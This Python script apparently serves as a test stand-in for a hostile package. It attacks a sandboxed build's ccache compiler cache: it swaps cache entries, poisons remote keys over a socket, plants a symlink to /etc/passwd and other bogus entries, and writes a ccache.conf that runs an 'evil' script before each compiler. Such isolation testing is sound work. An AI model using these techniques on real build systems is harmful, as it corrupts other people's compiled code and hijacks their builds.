"""What a hostile package does to the compiler cache when its own wheel is done: each attack prints one line, "ATTACK name: what it did". Runs inside the sandbox, at the end of the stand-in's setup.py."""

import glob
import os
import shutil
import socket
import time

FRONT = "/ptbuild/ccache"
SOCKET = "/ptbuild/remote/s"


def entries(kind):
    return [p for p in sorted(glob.glob(f"{FRONT}/?/?/*{kind}")) if os.path.isfile(p) and not os.path.islink(p)]


def read(path):
    with open(path, "rb") as f:
        return f.read()


def replace(path, data):
    os.unlink(path)
    with open(path, "wb") as f:
        f.write(data)


def swap(kind):
    """Each entry gets the bytes of another one: of another unit."""
    paths = entries(kind)
    data = [read(p) for p in paths]
    for path, other in zip(paths, data[1:] + data[:1]):
        replace(path, other)
    return f"{len(paths)} of {len(set(data))}"


def command(*words):
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)


def ask(s, *words):
    s.sendall(command(*words))
    return s.recv(1 << 20)


def sets():
    """Over what is there, and under a name of its own, in ccache's words and in ptbuild's."""
    said = []
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(SOCKET)
        for path in entries("R") + entries("M"):
            key = path[len(FRONT):-1].replace("/", "").encode()
            said.append(ask(s, b"SET", b"ccache:" + key, b"poison"))
        said.append(ask(s, b"SET", b"ccache:" + b"0" * 33, b"poison"))
        refused = ask(s, b"SET", b"ptbuild:default/pytorch/00/" + b"0" * 31, b"poison")
        ask(s, b"DEL", b"ccache:" + key)
    return f"{len(said)} {sorted(set(said))} {refused}"


def plant():
    """What is not as ccache makes it, under names that an entry could have."""
    good = read(entries("R")[0])
    shutil.rmtree(f"{FRONT}/f/f", ignore_errors=True)
    name = "f/f/" + "0123456789abcdefghijklmnopqrst%sR"
    os.makedirs(f"{FRONT}/f/f", exist_ok=True)
    os.symlink("/etc/passwd", f"{FRONT}/{name % 0}")
    os.mkfifo(f"{FRONT}/{name % 1}")
    with open(f"{FRONT}/{name % 2}", "wb") as f:
        f.write(good)
        f.truncate(1 << 30)
    os.mkdir(f"{FRONT}/{name % 3}")
    create(f"{FRONT}/{name % 4}", b"no entry of ccache's, but long enough for one")
    create(f"{FRONT}/{name % 5}", read(entries("M")[0]))
    s = socket.socket(socket.AF_UNIX)
    s.bind(f"{FRONT}/{name % 6}")
    return len(os.listdir(f"{FRONT}/f/f"))


def create(path, data):
    with open(path, "wb") as f:
        f.write(data)


def configure():
    """Read by ccache if nobody says otherwise: a command before each compiler."""
    create(f"{FRONT}/ccache.conf", b"prefix_command = /ptbuild/ccache/evil\nrecache = true\n")
    create(f"{FRONT}/evil", b'#!/bin/sh\necho ran >>/ptbuild/ccache/ran\nexec "$@"\n')
    os.chmod(f"{FRONT}/evil", 0o755)
    return sorted(n for n in os.listdir(FRONT) if len(n) > 1)


def reach():
    """The shared cache itself."""
    found = [d for d in ("/ptbuild/compiled", "/ptbuild/ccache/../compiled", "/ptbuild/remote") if os.path.isdir(d)]
    try:
        open("/ptbuild/remote/x", "w").close()
        return "through"
    except OSError as ex:
        return f"{found} {ex.strerror}"


ATTACKS = {"reach": reach, "sets": sets, "results": lambda: swap("R"), "manifests": lambda: swap("M"), "plant": plant, "configure": configure}


def run(how):
    for name, attack in ATTACKS.items():
        print(f"ATTACK {name}: {attack()}", flush=True)
    if how == "fail":
        os._exit(3)


def stop_once():
    """Between the compiler and the wheel: here it is interrupted."""
    if not os.path.exists("was-here"):
        open("was-here", "w").close()
        print("ATTACK interrupted: waits", flush=True)
        time.sleep(300)
